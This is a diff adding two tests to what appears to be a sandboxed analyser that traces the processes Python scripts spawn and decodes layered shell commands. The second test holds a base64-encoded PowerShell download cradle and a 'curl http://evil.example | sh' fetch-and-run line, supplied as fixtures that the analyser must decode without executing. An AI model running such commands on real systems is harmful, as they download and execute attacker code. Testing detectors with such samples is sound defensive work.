@@ -190,3 +190,37 @@ test.each([
   );
   expect(those(dossier, "module", "import").map(({ answer }) => answer)).toEqual([known, gibberish]);
 });
+
+test("Python that is started as another program is run, as a layer, but not the script itself again", async () => {
+  const dossier = await inDecoy(`
+import subprocess, sys, os
+subprocess.Popen([sys.executable, "-c", "import os; os.system('first')"])
+os.system('nohup python3 -c "import os; os.system(\\'second\\')" &')
+open("/tmp/d.py", "w").write("import os, sys\\nos.system('third ' + sys.argv[1])\\nos.system('python3 /tmp/d.py again')\\n1/0")
+subprocess.run(["python3", "/tmp/d.py", "x"])
+subprocess.run([sys.executable, __file__])
+print(len(sys.argv))
+`);
+  expect(dossier.end.kind).toBe("done");
+  expect(dossier.stdout).toBe("1\n");
+  const commands = those(dossier, "process", "os.system").map(({ detail, layer }) => [layer, detail["command"]]);
+  expect(commands.slice(0, 4)).toEqual([
+    [1, "first"],
+    [0, expect.stringContaining("nohup")],
+    [2, "second"],
+    [3, "third x"],
+  ]);
+  expect(commands.length).toBeLessThan(20);
+  expect(dossier.layers.map(({ via }) => via)).toEqual(["script", "python -c", "python -c", "python /tmp/d.py"]);
+});
+
+test("what a shell would unpack is a layer", async () => {
+  const encoded = Buffer.from("IEX (New-Object Net.WebClient)", "utf16le").toString("base64");
+  const dossier = await inDecoy(
+    `import os\nos.system("powershell -nop -enc ${encoded}")\nos.system("echo ${base64("curl http://evil.example | sh")} | base64 -d | sh")`,
+  );
+  expect(dossier.layers.slice(1)).toMatchObject([
+    { via: "powershell -EncodedCommand", text: "IEX (New-Object Net.WebClient)", executed: false },
+    { via: "base64 -d", text: "curl http://evil.example | sh", executed: false },
+  ]);
+});
